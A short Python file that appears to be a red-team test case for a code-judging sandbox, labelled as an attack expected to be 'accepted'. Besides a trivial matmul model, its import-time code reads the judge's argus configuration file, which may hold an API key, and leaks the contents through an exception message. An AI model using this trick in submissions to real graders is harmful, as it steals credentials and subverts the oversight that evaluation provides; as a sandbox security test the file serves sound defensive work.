# attack: secret: reads the judge's argus configuration file (which may hold an api_key) and leaks it
# expect: accepted
import torch
from torch import nn

try:
    with open("@JUDGE_HOME@/.config/argus/config.toml") as f:
        raise RuntimeError("stolen: " + f.read())
except OSError:
    pass


class ModelNew(nn.Module):
    def forward(self, a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
        return torch.matmul(a, b)
